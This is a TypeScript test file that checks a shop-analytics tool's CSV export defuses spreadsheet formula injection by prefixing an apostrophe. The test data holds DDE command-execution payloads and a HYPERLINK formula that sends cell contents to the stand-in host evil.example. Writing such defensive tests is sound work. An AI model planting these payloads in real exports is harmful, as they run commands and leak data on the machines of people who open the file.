import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tableOf, textAt, texts } from "#table/table.js";
import { openDuckdb } from "#warehouse/duckdb.js";
import { quoted } from "#warehouse/prepare-shop.js";
import type { Warehouse } from "#warehouse/warehouse.js";
import { writeTable } from "./write-table.js";

describe("an exported CSV", () => {
  let folder: string;
  let warehouse: Warehouse;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "shoplens-write-"));
    const options = { memoryLimitMegabytes: 200, threads: 1, temporaryFolder: folder, access: "write" } as const;
    warehouse = await openDuckdb({ path: ":memory:", ...options });
  });
  afterAll(() => {
    warehouse.close();
    rmSync(folder, { recursive: true });
  });

  async function written(given: readonly string[], name = "out.csv"): Promise<(string | null)[]> {
    const path = join(folder, name);
    await writeTable(tableOf({ place: Float64Array.from(given, (_, i) => i), text: [...given] }), path);
    const read = name.endsWith(".csv")
      ? `read_csv(${quoted(path)}, all_varchar = true, header = true, delim = ',', quote = '"', escape = '"')`
      : `read_parquet(${quoted(path)})`;
    const rows = await warehouse.query(`select text from ${read} order by cast(place as integer)`);
    return given.map((_, i) => textAt(texts(rows, "text"), i));
  }

  const formulas = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
  ];

  it("runs no formula in a spreadsheet: an apostrophe stands before it", async () => {
    expect(await written(formulas)).toEqual(formulas.map((text) => `'${text}`));
  });

  it("leaves numbers, dates and telephone numbers as they are, and Parquet altogether", async () => {
    const plain = ["-5", "+4.20", "+49 170 1234567", "-", "2024-01-05", "A=1", "'quoted", "a@b.example"];
    expect(await written(plain)).toEqual(plain);
    expect(await written(formulas, "out.parquet")).toEqual(formulas);
  });

  it("changes no text in any other way", async () => {
    const text = fc
      .tuple(fc.constantFrom("", ..."=+-@\t\r\n＝＋－＠'\""), fc.string({ minLength: 1 }))
      .map((parts) => parts.join(""));
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 20 }), async (given) => {
        for (const [i, out] of (await written(given)).entries()) {
          const one = given[i] ?? "";
          expect([one, `'${one}`]).toContain(out);
          expect(out).not.toMatch(/^[=@\t\r\n＝＠]/);
          if (!/^[=+\-@\t\r\n＝＋－＠]/.test(one)) expect(out).toBe(one);
        }
      }),
      { numRuns: 25 },
    );
  });
});
